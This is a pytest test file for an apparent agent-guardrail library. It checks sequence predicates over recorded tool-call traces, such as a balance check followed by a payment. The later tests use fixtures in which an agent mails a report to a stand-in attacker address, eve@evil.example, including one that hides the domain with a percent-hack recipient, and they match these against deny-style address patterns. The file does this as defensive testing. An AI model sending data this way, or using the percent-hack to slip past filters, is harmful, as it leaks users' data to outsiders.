"""Sequence predicates: immediately after, within N steps, never after, at most N (item 5)."""

from __future__ import annotations

import pytest

from guardagent.trace import PredicateSpecError, compile_bindings
from tests.trace_helpers import call, facts, result, system, user

RUN = [
    system(),
    user("Check my balance, then pay the rent to CH93 0076 2011 6238 5295 7."),
    call("c1", "get_balance", {"account": "main"}),
    result("c1", "CHF 5,400.00"),
    call("c2", "read_inbox", {"folder": "unread"}),
    result("c2", "Nothing new."),
    call("c3", "send_email", {"to": "me@home.example", "body": "hi"}),
    result("c3", "sent"),
]
PAY = {"iban": "CH9300762011623852957", "amount": 1200}


def fact(
    expression: str,
    messages: list[dict[str, object]] = RUN,
    name: str = "send_money",
    args: dict[str, object] = PAY,
) -> tuple[bool | None, str]:
    found = facts(messages, name, args).fact(expression)  # type: ignore[arg-type]
    return found.value, found.detail


def test_immediately_after_looks_at_the_previous_call_only() -> None:
    assert fact('immediately_after("send_email")')[0] is True
    value, detail = fact('immediately_after("get_balance")')
    assert value is False and "'send_email' (message 6)" in detail
    assert fact('immediately_after("effect:send")')[0] is True
    assert fact('immediately_after("send_email", args={"to": "*@home.example"})')[0] is True
    assert fact('immediately_after("send_email", args={"to": "x@y.example"})')[0] is False
    assert fact('immediately_after("get_balance")', RUN[:2])[0] is False  # no call before


def test_within_steps_counts_calls_back_from_this_one() -> None:
    assert fact('within_steps("get_balance", 2)')[0] is False
    assert fact('within_steps("get_balance", 3)')[0] is True
    assert fact('within_steps("get_balance", 3, status="ok")')[0] is True
    assert fact('within_steps("get_balance", 3, status="error")')[0] is False


def test_never_after_and_at_most_per_thread() -> None:
    value, detail = fact('never_after("read_inbox")')
    assert value is False and "message 4" in detail
    assert fact('never_after("browse")')[0] is True
    # at most N calls of the thread, this one included when it matches
    assert fact('at_most("effect:send", 1)', name="send_email", args={"to": "a@b.ch"})[0] is False
    assert fact('at_most("effect:send", 2)', name="send_email", args={"to": "a@b.ch"})[0] is True
    assert fact('at_most("effect:send", 1)')[0] is True  # send_money is irreversible, not send
    assert fact('at_most("send_money", 0)')[0] is False


@pytest.mark.parametrize(
    ("expression", "message"),
    [
        ('within_steps("x", 0)', "at least 1"),
        ('at_most("x", -1)', "whole number"),
        ('at_most("x", 1.5)', "whole number"),
        ('immediately_after("effect:fly")', "effect must be"),
        ('never_after({"tool": "x", "when": 1})', "unknown call pattern keys"),
    ],
)
def test_bad_sequence_options_fail_when_bound(expression: str, message: str) -> None:
    with pytest.raises(PredicateSpecError, match=message):
        compile_bindings({"p": expression})


# -- call patterns read an argument holding addresses as the mail server does too ----------

MAILED = [
    system(),
    user("Send the report to my team."),
    call("c1", "send_email", {"to": "eve@evil.example, bob@x.example", "body": "report"}),
    result("c1", "sent"),
]


@pytest.mark.parametrize(
    "expression",
    [
        'never_after("send_email", args={"to": "*@evil.example"})',
        'never_after("send_email", args={"to": "eve@evil.example"})',
        'called_before("send_email", args={"to": "*@evil.example"})',
        'at_most("send_email", 0, args={"to": "*@evil.example"})',
        'within_steps("send_email", 1, args={"to": "*@evil.example"})',
        'immediately_after("send_email", args={"to": "*@evil.example"})',
    ],
)
def test_a_pattern_sees_every_address_the_earlier_call_sent_to(expression: str) -> None:
    # the earlier e-mail went to eve@evil.example too: "never after mailing evil" must not hold
    value, detail = fact(expression, MAILED)
    negative = expression.startswith(("never_after", "at_most"))
    assert value is not negative, (expression, detail)


def test_a_plain_address_pattern_reads_as_before() -> None:
    assert fact('called_before("send_email", args={"to": "*@home.example"})')[0] is True
    assert fact('never_after("send_email", args={"to": "*@evil.example"})')[0] is True


def test_a_pattern_does_not_read_a_percent_hack_as_the_local_domain() -> None:
    mailed = [
        system(),
        user("Send the report to my team."),
        call("c1", "send_email", {"to": "eve%evil.example@x.example", "body": "report"}),
        result("c1", "sent"),
    ]
    assert fact('never_after("send_email", args={"to": "*@evil.example"})', mailed)[0] is not True
